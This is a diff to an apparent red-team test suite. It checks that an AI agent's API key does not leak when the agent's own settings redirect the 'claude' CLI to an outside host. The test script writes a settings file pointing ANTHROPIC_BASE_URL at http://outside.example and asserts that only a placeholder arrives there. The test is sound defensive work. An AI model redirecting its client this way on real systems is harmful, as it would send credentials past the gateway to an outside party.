@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import asyncio
+
 from tests.redteam.lab import SECRET, Lab, run
 
 _EVERY_PROCESS = """
@@ -59,14 +61,18 @@ async def test_docker_tells_nobody_the_key_neither_of_containers_nor_of_images(l
 
 async def test_an_api_elsewhere_gets_a_placeholder_for_the_key_even_when_the_cli_is_led_there(lab: Lab) -> None:
     """Settings of the agent's own home, which it may write, lead a CLI of its own to a host it may reach."""
-    await lab.sh("""
+    script = """
         mkdir -p /tmp/own/.claude && cd /tmp/own
         echo '{"env": {"ANTHROPIC_BASE_URL": "http://outside.example"}}' > .claude/settings.json
         env -u ANTHROPIC_UNIX_SOCKET HOME=/tmp/own ANTHROPIC_BASE_URL=http://outside.example \\
-          timeout 8 claude -p hello --max-turns 1 < /dev/null; rm -rf /tmp/own
-    """)
-    seen = await lab.outside_heard()
+          timeout 90 claude -p hello --max-turns 1 < /dev/null & until [ -e seen ] || ! kill -0 $!; do sleep 0.1; done
+        kill $!; wait; rm -rf /tmp/own
+    """
+    asking = asyncio.create_task(lab.sh(script))
+    while "/v1/messages" not in (seen := await lab.outside_heard()):
+        assert not asking.done(), "it was not led there"
+    await lab.sh("touch /tmp/own/seen")
+    await asking
 
-    assert "/v1/messages" in seen, "it was not led there"
     assert "the-gateway-adds-it" in seen
     assert SECRET not in seen
